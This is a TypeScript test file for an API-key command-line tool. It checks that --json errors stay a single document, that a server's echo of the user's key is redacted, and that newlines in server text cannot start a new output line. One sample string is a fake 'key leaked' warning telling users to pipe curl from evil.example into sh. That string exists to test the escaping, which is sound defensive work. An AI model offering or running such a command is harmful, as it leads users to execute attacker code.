// What Output promises whatever the server sends: --json errors are always one JSON document,
// the user's own key echoed back never reaches rows, tables or --json results, and server text
// never starts a line of its own. Run in process against scripted servers.
import { describe, expect, it } from 'vitest';
import { apiError, json, serverFixture } from '../support/fault-server.js';
import { apiKey, runProgram, TEST_KEY } from './helpers.js';

const { serve } = serverFixture();

describe('--json errors', () => {
  it('a 422 whose document passes 4096 characters is still one JSON document, every detail kept', async () => {
    const details = Array.from({ length: 60 }, (_, i) => ({ path: `permissions/${i}`, message: `scope number ${i} is not a known permission scope for this organization` }));
    const server = await serve((_req, res) => apiError(res, 422, 'VALIDATION_FAILED', 'The request is invalid.', { details }));
    const run = await runProgram(['api-keys', 'get', 'key_a', '--json', '--base-url', server.url, '--api-key', TEST_KEY]);
    expect(run.code).toBe(1);
    expect(run.stderr.length).toBeGreaterThan(4096);
    const parsed = JSON.parse(run.stderr) as { error: { details: unknown[]; exitCode: number } };
    expect(parsed.error.details).toEqual(details);
    expect(parsed.error.exitCode).toBe(1);
  });
});

/** The four views of one key (rows, a table, --json of get and list), and `more` after them. */
async function views(url: string, key: string, more: string[][] = []) {
  const run = (args: string[], columns?: number) => runProgram([...args, '--base-url', url, '--api-key', key], columns === undefined ? {} : { columns });
  const runs = [await run(['api-keys', 'list']), await run(['api-keys', 'get', 'key_a'], 200), await run(['api-keys', 'get', 'key_a', '--json']), await run(['api-keys', 'list', '--json'])];
  for (const args of more) runs.push(await run(args));
  return runs;
}

describe('the user\'s key echoed back by a server', () => {
  it('is hidden in rows, tables and --json results (a key of any shape)', async () => {
    const server = await serve((req, res) => {
      const key = String(req.headers.authorization).replace(/^Bearer /, '');
      const record = apiKey('key_a', { name: `echo ${key}`, description: key, [key]: 1 });
      json(res, 200, req.path.startsWith('/api-keys/') ? record : [record]);
    });
    for (const key of ['mycredential-1234567890', TEST_KEY]) {
      const runs = await views(server.url, key);
      for (const r of runs) {
        expect(r.code).toBe(0);
        expect(r.stdout + r.stderr).not.toContain(key);
      }
      expect(runs[0]!.stdout.split('\t')[1]).toBe('echo [REDACTED]');
      expect(runs[1]!.stdout).toContain('echo [REDACTED]');
      expect(JSON.parse(runs[2]!.stdout)).toMatchObject({ name: 'echo [REDACTED]', description: '[REDACTED]', '[REDACTED]': 1 });
      expect(JSON.parse(runs[3]!.stdout)[0]).toMatchObject({ name: 'echo [REDACTED]', description: '[REDACTED]' });
    }
  });
});

describe('the user\'s key split by an escape sequence in server text', () => {
  it('is hidden in messages, rows and --json output, though printing removes the sequence', async () => {
    const split = (key: string) => `${key.slice(0, 6)}\x1b[m${key.slice(6)}`;
    const server = await serve((req, res) => {
      const key = String(req.headers.authorization).replace(/^Bearer /, '');
      if (req.path.startsWith('/utils/')) return apiError(res, 400, 'BAD_REQUEST', `bad key ${split(key)}`);
      const record = apiKey('key_a', { name: `echo ${split(key)}`, description: split(key) });
      json(res, 200, req.path.startsWith('/api-keys/') ? record : [record]);
    });
    for (const key of ['mycredential-1234567890', TEST_KEY]) {
      const runs = await views(server.url, key, [['auth', 'test'], ['auth', 'test', '--json']]);
      for (const r of runs) {
        const shown = `${r.stdout}${r.stderr}`.replace(/\\u001b\[m|\x1b\[m/g, '');
        expect(shown).not.toContain(key);
      }
      expect(runs[0]!.stdout.split('\t')[1]).toBe('echo [REDACTED]');
      expect(JSON.parse(runs[2]!.stdout)).toMatchObject({ name: 'echo [REDACTED]', description: '[REDACTED]' });
    }
  });
});

describe('server text with a line break', () => {
  it('never starts a line of its own: shown as \\n in messages, result lines and table cells', async () => {
    const evil = 'x\nwarning: your key was leaked, rotate it with: curl https://evil.example/fix | sh';
    const record = apiKey('key_a', { name: evil, status: 'revoked', statusReason: evil });
    const server = await serve((req, res) => json(res, req.method === 'POST' ? 201 : 200, req.method === 'POST' ? { ...record, secret: 'ak_test_abcdefghijklmnopqrstuvwxyz' } : record));
    const run = (args: string[], columns?: number) =>
      runProgram([...args, '--base-url', server.url, '--api-key', TEST_KEY], { env: { NO_COLOR: '1' }, ...(columns === undefined ? {} : { columns }) });
    const escaped = 'x\\nwarning: your key was leaked';
    const update = await run(['api-keys', 'update', 'key_a', '--status', 'revoked']);
    expect(update.stdout.split('\n')).toEqual([expect.stringContaining(escaped), '']);
    const create = await run(['api-keys', 'create', '--name', 'n', '--type', 'service', '--environment', 'sandbox']);
    expect(create.code).toBe(0);
    const lines = create.stderr.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain(`(${escaped}`);
    expect(lines.filter((line) => line.startsWith('warning:'))).toEqual([expect.stringContaining('this is the only time the secret is shown')]);
    const table = await run(['api-keys', 'get', 'key_a'], 300);
    expect(table.stdout.split('\n')).toHaveLength(3);
    expect(table.stdout).toContain(escaped);
  });
});
